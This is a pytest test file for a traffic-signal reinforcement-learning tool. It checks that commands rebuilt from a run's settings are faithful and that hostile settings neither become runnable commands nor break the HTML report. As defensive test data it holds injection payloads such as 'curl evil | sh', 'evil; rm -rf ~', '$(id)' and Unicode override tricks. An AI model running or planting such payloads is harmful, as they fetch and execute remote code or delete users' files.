"""A run directory of somebody else's: what is shown of it, and what is said of one that is no good."""

from __future__ import annotations

import dataclasses
import json
import shlex
from pathlib import Path
from typing import Any

import pytest
import torch
from hypothesis import given, settings
from hypothesis import strategies as st

import evaluate
import train
from agents.job import command_of, job_of
from agents.named import find_controller
from agents.run import POLICY, SETTINGS, load_controller, read_settings, save_tensors
from plumbing.errors import InputError
from tests.test_report import untrained_run

OPTIONS: dict[str, st.SearchStrategy[list[str]]] = {
    "--routes": st.lists(st.sampled_from(["a b.rou.xml", "it's.rou.xml", "$(x).rou.xml"]), min_size=1, max_size=3),
    "--begin": st.just(["25200"]),
    "--workers": st.just(["3"]),
    "--sensing": st.just(["detectors"]),
    "--dropout": st.just(["0.125"]),
    "--latency": st.just(["1.5"]),
    "--reward": st.just(["pressure_veh"]),
    "--warm-up": st.just(["60"]),
    "--vary-demand": st.just(["0.5", "1.25"]),
    "--validate-every": st.just(["17"]),
    "--validation-runs": st.just(["2"]),
    "--min-green": st.just(["7.5"]),
    "--max-green": st.just(["inf"]),
    "--change-interval": st.just(["fixed"]),
}


def job_for(words: list[str]) -> Any:
    return train._job(train.parser().parse_args([*words, "--out", "x"]))


def plain(job: Any) -> dict[str, Any]:
    """As settings.json has it."""
    found: dict[str, Any] = json.loads(json.dumps(dataclasses.asdict(job)))
    return found


@pytest.mark.wide
@settings(deadline=None)
@given(st.lists(st.sampled_from(sorted(OPTIONS)), unique=True), st.data())
def test_the_command_is_made_of_the_job_and_gives_it_again(options: list[str], data: st.DataObject) -> None:
    words = ["--scenario", 'a "b".sumocfg', "--agent", "ppo", "--steps", "300", "--seed", "7"]
    for option in options:
        words += [option, *data.draw(OPTIONS[option])]
    job = job_for(words)
    settings = {"job": plain(job)}
    assert job_of(settings, Path("x")) == job
    line = command_of(settings, "runs/mine")
    said = shlex.split(line)
    assert said[:2] == ["python", "train.py"]
    assert said[-2:] == ["--out", "runs/mine"]
    assert job_for(said[2:-2]) == job


def test_the_agents_settings_are_told_beside_it() -> None:
    job = plain(job_for(["--scenario", "single", "--agent", "dqn"]))
    job["agent_settings"] |= {"units": 32, "gamma": 0.9}
    assert command_of({"job": job}, "r").endswith("--out r  # and --config with units: 32, gamma: 0.9")


@pytest.mark.parametrize(
    "changes",
    [
        {"scenario": "x\x1b[2J"},
        {"scenario": "x\ncurl evil | sh"},
        {"scenario": "x\u202egnp.exe"},
        {"scenario": "--overwrite"},
        {"scenario": 7},
        {"scenario": "x" * 5000},
        {"routes": ["x" * 3000]},
        {"reward": "evil; rm -rf ~"},
        {"agent": "mine"},
        {"sensing": "by magic"},
        {"steps": "1; id"},
        {"steps": -1},
        {"seed": 2**40},
        {"timing": {"walk_s": 8.0}},
        {"timing": {"evil": 1}},
        {"timing": []},
        {"faults": {"dropout": "1"}},
        {"demand_range": [1.0]},
        {"agent_settings": {"units": "$(id)"}},
        {"agent_settings": {"$(id)": 1}},
    ],
)
def test_what_train_could_not_have_been_told_is_not_shown(changes: dict[str, Any]) -> None:
    job = plain(job_for(["--scenario", "single"]))
    assert command_of({"job": job}, "r").startswith("python train.py --scenario single --agent dqn")
    job |= changes
    evil = ["sh", "-c", "curl evil | sh"]
    line = command_of({"job": job, "command": evil}, "runs/theirs")
    assert line == "# runs/theirs/settings.json does not say in train.py's words how this run was made"


@pytest.mark.wide
def test_a_strangers_command_stays_out_of_the_report(tmp_path: Path) -> None:
    """Nor do its names break the page: a learning curve of text, a $ that opens a formula, a name with a bell."""
    run = untrained_run(tmp_path / "a$\\x{$policy")
    settings = json.loads((run / SETTINGS).read_text())
    settings |= {"command": ["sh", "-c", "curl evil.example | sh"]}
    settings["job"]["scenario"] = "x; curl evil.example | sh"
    settings["scenario"]["name"] = "cologne9\u202e" + "x" * 3000
    (run / SETTINGS).write_text(json.dumps(settings))
    (run / "validation.csv").write_text("steps,delay_s\nmany,\x1b[31m\n")
    words = ["--scenario", "cologne1", "--end", "25260", "--controllers", "greedy", str(run), "--seeds", "1"]
    assert evaluate.main([*words, "--out", str(tmp_path / "out")]) == 0
    page = (tmp_path / "out" / "report.html").read_text()
    assert "sh -c" not in page
    assert "python train.py --scenario &#39;x; curl evil.example | sh&#39; --sim-step 1.0 --agent dqn" in page
    assert "\u202e" not in page
    assert "x" * 100 not in page
    assert 'id="fig-learning"' not in page


@pytest.mark.parametrize(
    "changes",
    [
        {"agent_settings": {"units": 10**9}},
        {"agent_settings": {"units": "64"}},
        {"agent_settings": []},
        {"scenario": "cologne1"},
        {"scenario": {"name": ["cologne1"]}},
        {"job": []},
        {"job": {"timing": {"yellow_change_s": "3"}}},
        {"job": {"timing": {"yellow_change_s": 1}}},
        {"versions": 3},
        {"format": 1, "versions": []},
        {"sensing": "by magic"},
        {"sensing": None},
    ],
)
def test_settings_of_another_kind_are_told(tmp_path: Path, changes: dict[str, Any]) -> None:
    run = untrained_run(tmp_path / "run")
    settings = json.loads((run / SETTINGS).read_text())
    (run / SETTINGS).write_text(json.dumps({**settings, **changes}))
    with pytest.raises(InputError, match=r"train (the run|it) anew"):
        find_controller(str(run))


@pytest.mark.parametrize(
    "text", ["[" * 100_000, '{"format": 2, "format": 2}', '{"format": ' + "9" * 5000 + "}", "\ud800", "{", "[]"]
)
def test_settings_that_are_no_plain_json_are_told(tmp_path: Path, text: str) -> None:
    (tmp_path / SETTINGS).write_bytes(text.encode("utf-8", "surrogatepass"))
    with pytest.raises(InputError, match="is not the settings file of a run"):
        read_settings(tmp_path)


@pytest.mark.parametrize("scorer", [3, {"x": 1}, {"x": torch.zeros(1)}, [], None])
def test_weights_of_another_kind_are_told(tmp_path: Path, scorer: Any) -> None:
    run = untrained_run(tmp_path / "run")
    save_tensors(run / POLICY, {"scorer": scorer})
    with pytest.raises(InputError, match=r"does not fit .*settings\.json"):
        load_controller(run)
